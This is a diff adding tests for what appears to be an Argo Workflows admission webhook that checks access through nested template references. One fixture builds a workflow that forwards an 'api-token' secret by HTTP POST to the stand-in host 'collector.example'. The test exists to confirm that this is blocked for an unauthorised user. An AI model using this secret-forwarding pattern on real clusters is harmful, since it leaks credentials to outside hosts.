@@ -232,3 +232,40 @@ async def test_a_referenced_template_sending_a_secret_where_the_caller_says_need
     assert (await admit(server, template_ref_workflow("notifier", template="fixed"), user="mallory"))["allowed"]
     reviewed = {r.body["spec"]["user"] for r in standin.requests if r.resource == "subjectaccessreviews"}
     assert {"alice", "mallory"} <= reviewed
+
+
+async def test_a_send_two_shared_templates_down_still_needs_the_callers_access(
+        start_server: ServerFactory, standin: KubeStandIn) -> None:
+    # workflow → ClusterWorkflowTemplate 'pipeline' → WorkflowTemplate 'notifier', which sends the secret to the
+    # url the workflow passes down through both.
+    setup_cluster(standin)
+    standin.add_workflow_template(NS, {"metadata": {"name": "notifier"}, "spec": {"templates": [
+        {"name": "notify", "inputs": {"parameters": [{"name": "url"}]},
+         "http": {"url": "{{inputs.parameters.url}}", "method": "POST", "headers": [
+             {"name": "Authorization", "valueFrom": {"secretKeyRef": {"name": "api-token", "key": "token"}}}]}}]}})
+    standin.add_cluster_workflow_template({"metadata": {"name": "pipeline"}, "spec": {"templates": [
+        {"name": "run", "inputs": {"parameters": [{"name": "url"}]}, "steps": [[
+            {"name": "tell", "templateRef": {"name": "notifier", "template": "notify"},
+             "arguments": {"parameters": [{"name": "url", "value": "{{inputs.parameters.url}}"}]}}]]}]}})
+    server = await start(start_server, standin)
+    caller = template_ref_workflow("pipeline", template="run", cluster=True)
+    caller["spec"]["templates"][0]["steps"][0][0]["arguments"] = {
+        "parameters": [{"name": "url", "value": "https://collector.example/"}]}
+    assert (await admit(server, caller))["allowed"] is True
+    denied = await admit(server, caller, user="mallory")
+    assert denied["allowed"] is False and "AW708" in message(denied)
+    assert "WorkflowTemplate 'notifier'" in message(denied)
+    # Fetched once each, and cached for the next review.
+    assert standin.count("GET", "clusterworkflowtemplates") == 1 and standin.count("GET", "workflowtemplates") == 1
+
+
+async def test_nested_template_fetching_is_bounded(start_server: ServerFactory, standin: KubeStandIn) -> None:
+    # A chain of 10 templates each calling the next: admission fetches a few levels, not the whole chain.
+    setup_cluster(standin)
+    for i in range(10):
+        standin.add_workflow_template(NS, {"metadata": {"name": f"link-{i}"}, "spec": {"templates": [
+            {"name": "main", "steps": [[{"name": "next", "templateRef": {"name": f"link-{i + 1}",
+                                                                        "template": "main"}}]]}]}})
+    server = await start(start_server, standin)
+    assert (await admit(server, template_ref_workflow("link-0")))["allowed"] is True
+    assert standin.count("GET", "workflowtemplates") == 4  # the object's own reference and three levels more
